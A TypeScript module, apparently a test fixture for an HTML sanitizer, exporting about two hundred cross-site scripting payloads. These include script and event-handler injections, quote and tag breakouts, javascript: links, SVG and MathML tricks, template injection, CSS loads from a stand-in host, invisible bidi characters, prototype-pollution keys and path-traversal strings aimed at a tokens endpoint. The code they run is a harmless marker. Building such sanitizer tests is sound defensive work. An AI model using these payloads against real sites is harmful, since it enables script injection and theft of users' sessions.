/**
 * Two hundred texts that run code, load something or look like another text in a page that lets a text be more than a
 * text. What runs calls `ran(…)`; what is loaded is from `elsewhere`.
 */
export const elsewhere = 'https://elsewhere.invalid';

const run = 'ran(1)';

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script/x>${run}</script>`,
  `<script\u00a0>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script src="${elsewhere}/a.js"></script>`,
  `<script src=data:text/javascript,${run}></script>`,
  `<script type=module>${run}</script>`,
  `<script>${run}//`,
  `<<script>${run}//<</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template><img src=x onerror=${run}>`,
];

const elements = [
  'img src=x onerror',
  'IMG SRC=x OnErRoR',
  'image src=x onerror',
  'video src=x onerror',
  'audio src=x onerror',
  'video><source onerror',
  'object data=x onerror',
  'body onload',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'button autofocus onfocus',
  'details open ontoggle',
  'iframe src=about:blank onload',
  'link rel=stylesheet href=data:text/css,a onload',
  'style onload',
  'marquee onstart',
  'p tabindex=1 autofocus onfocus',
  'div contenteditable autofocus onfocus',
  'a href=x tabindex=1 autofocus onfocus',
  'p style=animation:fade onanimationstart',
  'p style=transition:1s ontransitionend',
  'p onpointerrawupdate',
  'p onmouseover',
  'p onwheel',
  'form oninput',
  'track default onerror',
  'embed src=x onload',
  'keygen autofocus onfocus',
  'p popover onbeforetoggle',
];
const handlers = elements.flatMap((one) => [`<${one}=${run}>`, `"><${one}="${run}">`, `'><${one}='${run}'>`]);

const quotes = [
  `" onmouseover="${run}`,
  `' onfocus='${run}' autofocus x='`,
  `\` onfocus=${run} autofocus`,
  `" autofocus onfocus=${run} x="`,
  `--><img src=x onerror=${run}><!--`,
  `]]><img src=x onerror=${run}>`,
  `</title><img src=x onerror=${run}>`,
  `</textarea><img src=x onerror=${run}>`,
  `</style><img src=x onerror=${run}>`,
  `</script><script>${run}</script>`,
  `</noscript><img src=x onerror=${run}>`,
  `</xmp><img src=x onerror=${run}>`,
  `</option></select><img src=x onerror=${run}>`,
  `</td></tr></table><img src=x onerror=${run}>`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `%3Cimg%20src%3Dx%20onerror%3D${run}%3E`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `\\x3cimg src=x onerror=${run}\\x3e`,
  `+ADw-img src=x onerror=${run}+AD4-`,
];

const links = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `javascript://%0a${run}`,
  `java&Tab;script:${run}`,
  ` javascript:${run}`,
  `javascript&colon;${run}`,
  `data:text/html,<script>${run}</script>`,
  'data:text/html;charset=utf-8,<p>elsewhere',
  `vbscript:${run}`,
  `blob:${elsewhere}/a`,
  `<a href="javascript:${run}">a name</a>`,
  `<a href="javascript:${run}" autofocus onfocus=${run}>a name</a>`,
  `<form action="javascript:${run}"><button>Sign in</button></form>`,
  `<base href="${elsewhere}/">`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `//${elsewhere.slice(8)}/`,
  `/\\${elsewhere.slice(8)}`,
  `\\\\${elsewhere.slice(8)}\\share`,
  '../../../../api/v1/tokens',
  '..%2f..%2f..%2ftokens',
  '?view=all#main',
  '#main',
];

const drawings = [
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set onbegin=${run} attributeName=x>`,
  `<svg><a href="javascript:${run}"><text y=20>a name</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  `<svg><image href=x onerror=${run}></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<math><mi xlink:href="javascript:${run}">a name</mi></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
];

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `{{${run}}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `{%${run}%}`,
  `[[${run}]]`,
  `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${run}"}}}`,
  `"}];${run};//`,
  `';${run};//`,
  '$& $1 $` %s %o %c',
];

const styles = [
  `<style>@import url(${elsewhere}/a.css);</style>`,
  `<style>*{background:url(${elsewhere}/a.png)}</style>`,
  `<link rel=stylesheet href=${elsewhere}/a.css>`,
  `<img src=${elsewhere}/a.png>`,
  `<p style="background:url(${elsewhere}/b.png)">`,
  `red;background:url(${elsewhere}/c.png)`,
  `}*{background:url(${elsewhere}/d.png)}`,
  `expression(${run})`,
  'position:fixed;inset:0;z-index:9999',
  '</style><style>body{display:none}</style>',
];

const unseen = [
  ...['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'].map(
    (turn) => `turned ${turn}nimda`,
  ),
  'no\u200bwidth',
  'right\u200fto left',
  'tagged\u{e0061}\u{e0062}',
  'filled\u3164',
];

const names = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'then',
  'toJSON',
  'length',
];

const kinds = { scripts, handlers, quotes, links, drawings, templates, styles, unseen, names };

export const markupPayloads: readonly string[] = Object.values(kinds).flat();
